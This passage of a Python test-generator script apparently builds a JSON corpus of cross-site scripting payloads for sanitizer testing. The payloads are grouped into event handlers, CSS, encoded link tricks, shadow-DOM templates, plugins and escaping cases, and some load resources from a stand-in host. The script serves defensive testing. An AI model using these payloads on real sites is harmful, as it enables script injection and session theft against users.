    "<input autofocus onfocus=$XSS>",
    "<select autofocus onfocus=$XSS></select>",
    "<keygen autofocus onfocus=$XSS>",
    "<marquee onstart=$XSS>marquee text</marquee>",
    "<marquee loop=1 width=0 onfinish=$XSS>x</marquee>",
    "<details open ontoggle=$XSS><summary>s</summary>d</details>",
    "<dialog open onclose=$XSS>dialog</dialog>",
    "<x contenteditable autofocus onfocus=$XSS>custom</x>",
    "<x-widget onclick=$XSS>custom element</x-widget>",
    "<div popover id=p onbeforetoggle=$XSS>popover</div>",
    "<p style=\"animation-name:spin\" onanimationstart=$XSS>animated</p>",
    "<p style=\"transition:color 1s\" ontransitionend=$XSS>transition</p>",
    "<video src=x onerror=$XSS></video>",
    "<object data=x onerror=$XSS></object>",
    "<style onload=$XSS></style>",
    "<iframe onload=$XSS></iframe>",
    "<svg><animate onend=$XSS attributeName=x dur=1s repeatCount=1></svg>",
    "<a href=\"/ok\" onclick=\"$XSS\" onauxclick=\"$XSS\">both</a>",
    "<p on=\"x\" onx=\"$XSS\" o\u0000nclick=\"$XSS\">odd names</p>",
    "<p onclick\u00a0=\"$XSS\">nbsp name</p>",
    "<p data-onclick=\"$XSS\" aria-label=\"x\">data attribute</p>",
    "<a href=\"/ok\" formaction=\"javascript:$XSS\" on\x0cclick=\"$XSS\">ff</a>",
]:
    add("event-handlers", p)

# ---------------------------------------------------------------- style
for p in [
    "<p style=\"background:url(javascript:$XSS)\">styled</p>",
    "<p style=\"background-image:url('javascript:$XSS')\">styled</p>",
    "<div style=\"width:expression($XSS)\">expression</div>",
    "<div style=\"xss:expr/**/ession($XSS)\">expression comment</div>",
    "<img src=\"/img/a.png\" style=\"xss:\\65xpression($XSS)\">",
    "<p style=\"behavior:url(x.htc)\">behavior</p>",
    "<p style=\"-moz-binding:url('//evil.invalid/xbl.xml#x')\">binding</p>",
    "<p style=\"background:url(//evil.invalid/bg.png)\">external background</p>",
    "<p style=\"list-style:url(//evil.invalid/bullet.png)\">list style</p>",
    "<p style=\"cursor:url(//evil.invalid/c.cur),auto\">cursor</p>",
    "<p style=\"background:url(&quot;javascript:$XSS&quot;)\">entity quotes</p>",
    "<p style=\"position:fixed;inset:0;z-index:99999;background:red\">overlay</p>",
    "<p STYLE=\"background:url(javascript:$XSS)\">uppercase</p>",
    "<div style=\"@import 'javascript:$XSS';\">import</div>",
    "<p style=\"font-family:'</style><img src=x onerror=$XSS>'\">style breakout</p>",
    "<style>*{background:url(javascript:$XSS)}</style>",
    "<style>@font-face{font-family:x;src:url(//evil.invalid/f.woff)}</style>",
    "<link rel=stylesheet href=\"data:text/css,*{background:url(//evil.invalid/c.png)}\">",
    "<p style=\"mask:url(//evil.invalid/m.svg)\">mask</p>",
    "<p style=\"content:url(//evil.invalid/c.png)\">content</p>",
]:
    add("style", p)

# ---------------------------------------------------------------- links with nested tricks
for p in [
    "<a href=\"javascript:$XSS\"><img src=\"/img/a.png\" alt=\"pic\"></a>",
    "<a href=\"/ok\"><a href=\"javascript:$XSS\">inner</a></a>",
    "<a href=\"javascript:$XSS\" href=\"/ok\">first wins</a>",
    "<a href=\"/ok\" href=\"javascript:$XSS\">second ignored</a>",
    "<a href=\"&quot;&gt;&lt;img src=x onerror=$XSS&gt;\">quote breakout</a>",
    "<a href=\"/ok\" title=\"&quot;&gt;&lt;img src=x onerror=$XSS&gt;\">title breakout</a>",
    "<a href='/ok' title='\"><img src=x onerror=$XSS>'>single-quoted title</a>",
    "<a href=\"/ok?x=&quot;onmouseover=$XSS\">query quote</a>",
    "<a href=\"/ok\"\nonclick=$XSS>newline attr</a>",
    "<a href=\"javascript:$XSS\"><p>block in link</p></a>",
    "<a href=\"javascript:$XSS\">link <b>bold <i>italic</i></b></a>",
    "<a href=\"/ok\"><svg><a href=\"javascript:$XSS\"><text>svg link</text></a></svg></a>",
    "<a href=\"/ok\"><math><mtext><a href=\"javascript:$XSS\">m</a></mtext></math></a>",
    "<a href=\"#\" onclick=\"$XSS;return false\">hash</a>",
    "<a href=\"mailto:a@example.org?body=&lt;script&gt;$XSS&lt;/script&gt;\">mail</a>",
    "<a href=\"tel:+1-555-0100\">call</a>",
    "<a href=\"//evil.invalid/\" rel=\"noopener\">protocol-relative link</a>",
    "<a href=\"https:javascript:$XSS\">https colon</a>",
    "<a href=\"http://127.0.0.1/%0ajavascript:$XSS\">encoded newline</a>",
    "<a href=\"\\\\evil.invalid\\x\">backslashes</a>",
    "<a href=\"javascript:$XSS\" title=\"x\" lang=\"en\" dir=\"rtl\">all allowed but href</a>",
    "<a href=\"java&#x00;script:$XSS\">nul ref</a>",
    "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;&#x5F;&#x5F;&#x78;&#x73;&#x73;&#x28;$ID&#x29;\">all encoded</a>",
    "<a href=\"\u200bjavascript:$XSS\">zero width</a>",
    "<a href=\"%6Aavascript:$XSS\">percent</a>",
    "<a href=javascript&colon;$XSS>colon entity</a>",
    "<a href=\"ja&#x0d;&#x0a;vas&#x09;cript:$XSS\">mixed whitespace</a>",
    "<a href=\"   &#9;&#10;javascript:$XSS\">leading whitespace refs</a>",
]:
    add("link-tricks", p)

# ---------------------------------------------------------------- template, slot, shadow roots
for p in [
    "<template><img src=x onerror=$XSS></template>",
    "<template shadowrootmode=\"open\"><img src=x onerror=$XSS></template>",
    "<div><template shadowrootmode=\"open\"><slot></slot><img src=x onerror=$XSS></template><p>light content</p></div>",
    "<div><template shadowroot=\"open\"><style>:host{}</style><img src=x onerror=$XSS></template></div>",
    "<div><template shadowrootmode=\"closed\" shadowrootdelegatesfocus><input autofocus onfocus=$XSS></template></div>",
    "<slot name=\"x\" onclick=\"$XSS\">slot</slot>",
    "<slot onslotchange=\"$XSS\"><p>slotted</p></slot>",
    "<template><template shadowrootmode=open><script>$XSS</script></template></template>",
    "<table><template><tr><td><img src=x onerror=$XSS></td></tr></template></table>",
    "<p>before<template>hidden <a href=\"javascript:$XSS\">x</a></template>after</p>",
]:
    add("template-shadow", p)

# ---------------------------------------------------------------- plugins and frames
for p in [
    "<object data=\"javascript:$XSS\"></object>",
    "<object data=\"data:text/html,&lt;script&gt;parent.$XSS&lt;/script&gt;\"></object>",
    "<object type=\"text/x-scriptlet\" data=\"//evil.invalid/x.sct\"></object>",
    "<object><param name=\"src\" value=\"javascript:$XSS\"></object>",
    "<object data=\"//evil.invalid/x.swf\"><embed src=\"//evil.invalid/x.swf\"></object>",
    "<embed src=\"javascript:$XSS\">",
    "<embed src=\"data:image/svg+xml,&lt;svg onload=$XSS&gt;\" type=\"image/svg+xml\">",
    "<embed code=\"javascript:$XSS\">",
    "<applet code=\"javascript:$XSS\"></applet>",
    "<applet codebase=\"//evil.invalid/\" code=\"X.class\"><param name=x value=y></applet>",
    "<frameset><frame src=\"javascript:$XSS\"></frameset>",
    "<frame src=\"javascript:$XSS\">",
    "<portal src=\"javascript:$XSS\"></portal>",
    "<fencedframe src=\"javascript:$XSS\"></fencedframe>",
    "<canvas id=c onclick=$XSS>canvas fallback</canvas>",
    "<math><mtext><object data=\"javascript:$XSS\"></object></mtext></math>",
]:
    add("plugins-frames", p)

# ---------------------------------------------------------------- attribute escaping and text
for p in [
    "<img src=\"/img/a.png\" alt=\"&quot;&gt;&lt;img src=x onerror=$XSS&gt;\">",
    "<img src=\"/img/a.png\" alt='\"><script>$XSS</script>'>",
    "<p title=\"&#34;><script>$XSS</script>\">title refs</p>",
    "<time datetime=\"&quot; onmouseover=&quot;$XSS\">date</time>",
    "<ol start=\"1&quot; onclick=&quot;$XSS\"><li value='2\" onclick=\"$XSS'>x</li></ol>",
    "<td colspan=\"2&quot;&gt;&lt;img src=x onerror=$XSS&gt;\">orphan cell</td>",
    "<p lang=\"en&quot; onclick=&quot;$XSS\" dir=\"&lt;/p&gt;&lt;img src=x onerror=$XSS&gt;\">lang</p>",
    "<abbr title=\"`onmouseover=$XSS`\">abbr</abbr>",
    "<p>Text with &lt;/p&gt;&lt;img src=x onerror=$XSS&gt; escaped markup.</p>",
    "<p>&amp;lt;script&amp;gt;$XSS&amp;lt;/script&amp;gt;</p>",
    "<p>&#60;script&#62;$XSS&#60;/script&#62;</p>",
    "<p>&#x3C;img src=x onerror=$XSS&#x3E;</p>",
    "<p>\x00<script>$XSS</script>\x00</p>",
    "<p>NUL\x00 in <a href=\"/ok\x00\">text</a> and <img src=\"/img/a.png\x00\" alt=\"a\x00\"></p>",
    "<p>\ufe64script\ufe65$XSS\ufe64/script\ufe65 small form</p>",
    "<p>\uff1cscript\uff1e$XSS\uff1c/script\uff1e fullwidth</p>",
    "<scr\u0130pt>$XSS</scr\u0130pt>",
    "<\u017fcript>$XSS</\u017fcript>",
    "<\u212abd onclick=$XSS>kelvin</\u212abd>",
    "<p>\u202e>tpircs/<$XSS>tpircs<</p>",
    "<pre>&lt;/pre&gt;&lt;img src=x onerror=$XSS&gt;</pre>",
    "<code>`</code><img src=x onerror=$XSS>`",
    "<p>](javascript:$XSS) [click](javascript:$XSS) &lt;javascript:$XSS&gt;</p>",
    "<a href=\"javascript:$XSS\">[markdown](javascript:$XSS)</a>",
    "<img src=\"/img/a.png\" alt=\"](javascript:$XSS)\" title=\"x)\">",
    "<a href=\"/ok)[x](javascript:$XSS\">paren</a>",
    "<a href=\"/ok> <javascript:$XSS\">angle</a>",
    "<h2>Heading &lt;img src=x onerror=$XSS&gt;</h2>",
    "<table><tr><td>|</td><td><a href=\"javascript:$XSS\">x</a></td></tr></table>",
    "<p>\r\n\r\n<script>$XSS</script>\r\n</p>",
]:
    add("escaping-text", p)

# ---------------------------------------------------------------- the same vectors in a removed block
for p in [
    "<li><a href=\"javascript:$XSS\">related</a></li>",
    "<li><img src=x onerror=$XSS></li>",
    "<li><svg onload=$XSS></li>",
    "<li><math><mtext><table><mglyph><style><img src=x onerror=$XSS></li>",
    "<li><a href=\"&#106;avascript:$XSS\">encoded</a></li>",
    "<li><a href=\"data:text/html,&lt;script&gt;$XSS&lt;/script&gt;\">data</a></li>",
    "<li style=\"background:url(javascript:$XSS)\">styled</li>",
    "<li><iframe src=\"javascript:$XSS\"></iframe></li>",
    "<li><form action=\"javascript:$XSS\"><button>go</button></form></li>",
    "<li><noscript><p title=\"</noscript><img src=x onerror=$XSS>\"></noscript></li>",
    "<li><img src=\"/img/a.png\" srcset=\"/img/a.png 1x,javascript:$XSS 2x\"></li>",
    "<li><a href=\"/ok\" title='\"><img src=x onerror=$XSS>'>t</a></li>",
    "<li><object data=\"javascript:$XSS\"></object></li>",
    "<li><details open ontoggle=$XSS><summary>s</summary></details></li>",
    "<li><template shadowrootmode=open><img src=x onerror=$XSS></template></li>",
]:
    add("removed-block", p, "junk")

# ---------------------------------------------------------------- inline placement of common vectors
for p in [
    "<img src=x onerror=$XSS>",
    "<a href=\"javascript:$XSS\">inline link</a>",
    "<svg onload=$XSS>",
    "<script>$XSS</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=$XSS>",
    "<iframe src=\"javascript:$XSS\"></iframe>",
    "<b onmouseover=$XSS>bold</b>",
    "<a href=\"jav&#x09;ascript:$XSS\">tab</a>",
    "<img srcset=\"javascript:$XSS 1x\">",
    "<input onfocus=$XSS autofocus>",
]:
    add("inline", p, "inline")

for i, p in enumerate(payloads, 1):
    p["id"] = i
    p["html"] = p["html"].replace("$ID", str(i))

out = {
    "comment": "Generated by tests/xss/generate.py; see there for the format.",
    "template": TEMPLATE,
    "payloads": [{"id": p["id"], "category": p["category"], "where": p["where"], "html": p["html"]} for p in payloads],
}
path = os.path.join(os.path.dirname(os.path.abspath(__file__)), "payloads.json")
with open(path, "w", encoding="utf-8") as f:
    json.dump(out, f, ensure_ascii=False, indent=1)
    f.write("\n")
cats = {}
for p in payloads:
    cats[p["category"]] = cats.get(p["category"], 0) + 1
print(f"{len(payloads)} payloads -> {path}")
for c, n in cats.items():
    print(f"  {c}: {n}")
